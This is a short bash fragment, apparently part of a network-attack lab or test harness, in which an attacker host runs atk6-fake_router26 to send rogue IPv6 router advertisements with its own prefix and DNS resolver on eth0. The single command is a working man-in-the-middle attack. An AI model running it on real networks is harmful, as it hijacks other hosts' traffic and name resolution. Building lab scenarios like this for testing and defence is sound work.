# shellcheck shell=bash
# A machine of the LAN announces itself as a router with high preference, its own prefix and resolver.
start() { att_forward; mark
  sbg attacker ra atk6-fake_router26 -A 2001:db8:bad::/64 -D fe80::77:ff:fe00:66 -i 3 eth0; }
